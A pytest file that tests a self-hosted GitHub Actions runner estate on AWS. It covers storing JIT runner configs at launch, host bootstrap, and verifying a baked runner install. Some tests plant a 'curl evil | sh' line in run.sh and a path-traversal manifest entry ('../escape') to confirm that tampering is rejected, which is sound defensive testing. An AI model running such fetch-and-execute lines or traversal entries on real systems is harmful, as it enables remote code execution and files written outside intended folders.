"""The fast launch path (issue 20.3), end to end where it can be: the runner config is stored by
the same scale-up call that launches the host, so the host's first read finds it; nothing a
host does on the way to its runner waits on anything but the checks it must make."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from collections.abc import Callable, Iterator
from concurrent.futures import Executor, Future
from pathlib import Path
from typing import Any

import pytest

from estate.local.plane import LocalPlane
from lambda_src.aws.sigv4_client import AwsError, AwsJsonClient, Credentials
from lambda_src.host import bootstrap as host_bootstrap
from lambda_src.host import runner_files
from lambda_src.host.first_job import FirstJob
from lambda_src.host.runner_files import manifest_path, record_runner
from tests.conftest import EXAMPLE_CONFIGS, WORKING_HOURS, fixed_clock

T4 = ["self-hosted", "linux", "x64", "gpu", "t4"]
POOL = "gpu-t4-spot"
# EC2's raw launch to a reachable OS (design.md, "Time to start"): no host asks sooner than this.
EARLIEST_BOOT_S = 16.0


@pytest.fixture
def local(moto_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[LocalPlane]:
    plane = LocalPlane([str(EXAMPLE_CONFIGS)], clock=fixed_clock(monkeypatch, WORKING_HOURS), endpoint=moto_url).start()
    plane.serve_webhook()
    yield plane
    plane.stop()


def _no_wait(seconds: float) -> None:
    raise AssertionError(f"the host had to wait {seconds} s for its runner config")


def test_the_runner_config_is_stored_by_the_launching_call_before_any_host_can_ask(local: LocalPlane) -> None:
    launched_at = local.clock()
    for _ in range(3):
        local.github.queue_job(T4)
    local.pump()  # one scale-up call: CreateFleet, then a config per host
    hosts = local.running_instances(POOL)
    assert len(hosts) == 3
    for iid in hosts:
        recorded = local.plane.ledger.instance(iid)
        assert recorded is not None
        assert recorded.jit_at == recorded.launched_at == launched_at  # stored within the launch, no clock moved
        assert recorded.jit_at - recorded.launched_at < EARLIEST_BOOT_S
        # The host's own first read (its bootstrap's) finds it at once and deletes it.
        name = local.settings.jit_parameter_prefix + iid
        assert host_bootstrap.fetch_runner_config(local.ssm, name, wait_s=0.0, sleep=_no_wait)
        with pytest.raises(AwsError) as gone:
            local.ssm.call("GetParameter", {"Name": name})
        assert gone.value.code == "ParameterNotFound"


def test_a_host_that_asks_too_early_backs_off_briefly_then_reads_it(local: LocalPlane) -> None:
    """Were a host ever to ask first (a slow GitHub), it waits one second, not its boot time."""
    name = local.settings.jit_parameter_prefix + "i-0123456789abcdef0"
    waits: list[float] = []

    def scaler_stores_it(seconds: float) -> None:
        waits.append(seconds)
        local.ssm.call("PutParameter", {"Name": name, "Value": "encoded-jit-config", "Type": "SecureString"})

    assert host_bootstrap.fetch_runner_config(local.ssm, name, wait_s=600.0, sleep=scaler_stores_it) == "encoded-jit-config"
    assert waits == [1.0]


# ---- the host's first job: the install is checked while its folder is linked and IMDS asked ------

VERSION = "2.329.0"
RUN_SH = b"#!/bin/sh\necho runner\n"


def _release(run_sh: bytes = RUN_SH) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in (("run.sh", run_sh), ("bin/Runner.Listener", b"\x7fELF listener")):
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


RELEASE = _release()
SHA = hashlib.sha256(RELEASE).hexdigest()


class Releases:
    """The release download, counted."""

    def __init__(self, blob: bytes = RELEASE) -> None:
        self.blob, self.urls = blob, list[str]()

    def __call__(self, url: str) -> bytes:
        self.urls.append(url)
        return self.blob


def _no_download(url: str) -> bytes:
    raise AssertionError(f"a baked host downloaded {url}")


class Held(Executor):
    """Runs nothing until the test says which submitted call finishes when: the overlap of the
    check and the link, in the order a test needs. FirstJob submits the check, then the link."""

    def __init__(self) -> None:
        self.calls: list[tuple[Future[Any], Callable[..., Any], tuple[Any, ...]]] = []

    def submit(self, fn: Callable[..., Any], /, *args: Any, **kwargs: Any) -> Future[Any]:
        future: Future[Any] = Future()
        self.calls.append((future, fn, args))
        return future

    def finish(self, index: int) -> None:
        future, fn, args = self.calls[index]
        try:
            future.set_result(fn(*args))
        except Exception as exc:  # noqa: BLE001 - handed to whoever waits, as a pool does
            future.set_exception(exc)


CHECK, LINK = 0, 1


def _first_job(tmp_path: Path, fetch: Callable[[str], bytes], sha256: str | None = SHA) -> tuple[Held, FirstJob]:
    pool = Held()
    job = FirstJob(pool, tmp_path / "actions-runner", tmp_path / "actions-runner-job", VERSION, "x64", sha256, None, fetch)
    return pool, job


def _baked(tmp_path: Path, blob: bytes = RELEASE, version: str = VERSION) -> Path:
    """The install an image carries (lambda_src/host/bake.py puts it there)."""
    return host_bootstrap.install_runner(tmp_path / "actions-runner", version, "x64", None, Releases(blob))


@pytest.fixture
def checks(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """Every check of an install against its record."""
    seen: list[Path] = []
    real = runner_files.verify_runner

    def counted(directory: Path, owners: Any = None) -> dict[str, Any]:
        seen.append(directory)
        return real(directory, owners)

    monkeypatch.setattr(runner_files, "verify_runner", counted)
    return seen


def test_on_a_baked_image_the_first_job_runs_from_the_folder_linked_during_the_check(tmp_path: Path, checks: list[Path]) -> None:
    install = _baked(tmp_path)
    checks.clear()
    pool, job = _first_job(tmp_path, _no_download)
    pool.finish(LINK)  # the link is the shorter: it is done before the check
    linked = (tmp_path / "actions-runner-job").stat().st_ino
    pool.finish(CHECK)

    folder = job.folder_for_job()
    assert folder == tmp_path / "actions-runner-job"
    assert folder.stat().st_ino == linked  # the early folder itself, not built again
    assert checks == [install]  # checked once, not again to build the folder
    assert (folder / "run.sh").read_bytes() == RUN_SH
    assert (folder / "run.sh").stat().st_ino == (install / "run.sh").stat().st_ino  # links to the checked files
    assert (folder / "_work").is_dir()

    assert job.folder_for_job() == folder  # a next job (estate.reuse_hosts): its folder from an install checked again
    assert checks == [install, install]


def test_the_same_holds_when_the_check_finishes_first(tmp_path: Path, checks: list[Path]) -> None:
    _baked(tmp_path)
    checks.clear()
    pool, job = _first_job(tmp_path, _no_download)
    pool.finish(CHECK)
    pool.finish(LINK)
    assert job.folder_for_job() == tmp_path / "actions-runner-job"
    assert len(checks) == 1


def test_a_baked_install_that_fails_its_check_is_replaced_and_the_early_folder_not_used(tmp_path: Path) -> None:
    install = _baked(tmp_path)
    (install / "run.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")  # the record unchanged, the tree not
    releases = Releases()
    pool, job = _first_job(tmp_path, releases)
    pool.finish(LINK)
    assert (tmp_path / "actions-runner-job" / "run.sh").read_bytes() != RUN_SH  # linked from the changed tree
    pool.finish(CHECK)

    folder = job.folder_for_job()
    assert len(releases.urls) == 1  # the check failed: a checked download replaced the install
    assert (folder / "run.sh").read_bytes() == RUN_SH
    assert (folder / "run.sh").stat().st_ino == (install / "run.sh").stat().st_ino  # linked to the checked download


def test_a_record_that_changed_between_the_link_and_the_check_is_not_the_one_linked(tmp_path: Path, checks: list[Path]) -> None:
    install = _baked(tmp_path)
    pool, job = _first_job(tmp_path, _no_download)
    pool.finish(LINK)
    # The install and its record replaced, consistently, before the check reads them.
    (install / "run.sh").unlink()
    (install / "run.sh").write_bytes(b"#!/bin/sh\necho another runner\n")
    (install / "run.sh").chmod(0o755)
    record_runner(install, VERSION, "x64")
    checks.clear()
    pool.finish(CHECK)

    folder = job.folder_for_job()
    assert (folder / "run.sh").read_bytes() == b"#!/bin/sh\necho another runner\n"  # what the check passed
    assert (folder / "run.sh").stat().st_ino == (install / "run.sh").stat().st_ino
    assert len(checks) == 2  # the check, then again to build the folder from the checked install


def test_a_record_that_is_no_installs_links_nothing_and_the_install_is_downloaded(tmp_path: Path) -> None:
    install = _baked(tmp_path)
    escape = tmp_path / "escape"
    hostile = {"version": VERSION, "arch": "x64", "entries": [["d", "../escape", 0o755], ["f", "run.sh", 0o755, "0" * 64]]}
    manifest_path(install).write_text(json.dumps(hostile))
    releases = Releases()
    pool, job = _first_job(tmp_path, releases)
    pool.finish(LINK)
    assert not escape.exists()  # the early link refused the record: nothing written outside the folder
    pool.finish(CHECK)

    folder = job.folder_for_job()
    assert len(releases.urls) == 1
    assert (folder / "run.sh").read_bytes() == RUN_SH
    assert not escape.exists()


def test_a_record_others_may_have_written_is_linked_from_but_never_used(tmp_path: Path) -> None:
    install = _baked(tmp_path)
    manifest_path(install).chmod(0o666)  # its content intact, its writer anyone
    releases = Releases()
    pool, job = _first_job(tmp_path, releases)
    pool.finish(LINK)
    early = (tmp_path / "actions-runner-job").stat().st_ino
    pool.finish(CHECK)

    folder = job.folder_for_job()
    assert len(releases.urls) == 1  # the check refused the record: a checked download replaced it all
    assert folder.stat().st_ino != early
    assert (folder / "run.sh").stat().st_ino == (install / "run.sh").stat().st_ino


def test_a_stock_image_downloads_the_runner_and_links_the_folder_from_the_download(tmp_path: Path) -> None:
    releases = Releases()
    pool, job = _first_job(tmp_path, releases)
    pool.finish(LINK)  # no record yet: nothing to link from
    assert not (tmp_path / "actions-runner-job").exists()
    pool.finish(CHECK)

    folder = job.folder_for_job()
    assert releases.urls == [f"https://github.com/actions/runner/releases/download/v{VERSION}/actions-runner-linux-x64-{VERSION}.tar.gz"]
    assert (folder / "run.sh").stat().st_ino == (tmp_path / "actions-runner" / "run.sh").stat().st_ino


def test_an_image_with_another_runner_version_gets_the_configured_one(tmp_path: Path) -> None:
    _baked(tmp_path, _release(b"#!/bin/sh\necho older runner\n"), version="2.328.0")
    releases = Releases()
    pool, job = _first_job(tmp_path, releases)
    pool.finish(LINK)  # linked from the older runner's record, which is intact
    pool.finish(CHECK)

    folder = job.folder_for_job()
    assert len(releases.urls) == 1
    assert (folder / "run.sh").read_bytes() == RUN_SH


def test_a_failed_check_that_no_download_mends_starts_no_runner(tmp_path: Path) -> None:
    install = _baked(tmp_path)
    (install / "run.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    pool, job = _first_job(tmp_path, Releases(_release(b"#!/bin/sh\nnot the pinned release\n")))
    pool.finish(LINK)
    pool.finish(CHECK)
    with pytest.raises(RuntimeError, match="does not match the configured"):
        job.checked_install()
    with pytest.raises(RuntimeError, match="does not match the configured"):
        job.folder_for_job()


# ---- the bootstrap itself, on a baked image --------------------------------------------------


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """main()'s surroundings: IMDS answers, the runner and the tidy-up are recorded, not run."""
    seen: dict[str, Any] = {"runs": [], "tidied": 0}
    identity = {"meta-data/instance-id": "i-0123456789abcdef0", "meta-data/placement/region": "us-east-1"}
    monkeypatch.setattr(host_bootstrap.Imds, "get", lambda self, path: identity[path])
    monkeypatch.setattr(host_bootstrap.Imds, "credentials", lambda self: Credentials("ASIAEXAMPLE", "secret", "session"))

    def run_once(command: list[str], config: str, user: str | None, cwd: Path | None = None) -> int:
        seen["runs"].append((command, config, cwd))
        return 0

    def tidy(user: str, folder: Path) -> None:
        seen["tidied"] += 1
        runner_files.remove_job_dir(folder)

    monkeypatch.setattr(host_bootstrap, "run_once", run_once)
    monkeypatch.setattr(host_bootstrap, "tidy_after_job", tidy)
    return seen


def _argv(tmp_path: Path, sha256: str = SHA) -> list[str]:
    own = runner_files._own_name()
    if own is None:
        pytest.skip("this uid has no account name to run the job as")
    return [
        *("--parameter-prefix", "/runner-estate/prod/jit/", "--runner-version", VERSION, "--runner-arch", "x64"),
        *("--runner-sha256", sha256, "--runner-dir", str(tmp_path / "actions-runner"), "--run-as", own, "--wait", "0"),
    ]


def test_a_baked_host_checks_its_install_once_reads_its_config_once_and_runs_the_runner(
    tmp_path: Path, moto_url: str, host: dict[str, Any], checks: list[Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_url)
    monkeypatch.setattr(host_bootstrap, "download", _no_download)
    ssm = AwsJsonClient("ssm", "us-east-1", credentials=lambda: Credentials("AKIAEXAMPLE", "secret"))
    name = "/runner-estate/prod/jit/i-0123456789abcdef0"
    ssm.call("PutParameter", {"Name": name, "Value": "encoded-jit-config", "Type": "SecureString"})
    install = _baked(tmp_path)
    checks.clear()

    assert host_bootstrap.main(_argv(tmp_path)) == 0
    folder = tmp_path / "actions-runner-job"
    assert host["runs"] == [([str(folder / "run.sh")], "encoded-jit-config", folder)]
    assert checks == [install]
    assert host["tidied"] == 1
    with pytest.raises(AwsError) as gone:
        ssm.call("GetParameter", {"Name": name})
    assert gone.value.code == "ParameterNotFound"


def test_no_config_is_taken_for_an_install_that_fails_its_check(
    tmp_path: Path, host: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The host powers off with its config unread, as before the overlap: the control plane,
    finding no runner online within the boot time, terminates it and deletes the config."""
    monkeypatch.setattr(host_bootstrap, "download", Releases())
    asked: list[str] = []

    def fetch_config(*args: object, **kwargs: object) -> str:
        asked.append("config")
        return "encoded-jit-config"

    monkeypatch.setattr(host_bootstrap, "fetch_runner_config", fetch_config)
    with pytest.raises(RuntimeError, match="does not match the configured"):
        host_bootstrap.main(_argv(tmp_path, sha256="0" * 64))
    assert asked == []
    assert host["runs"] == []
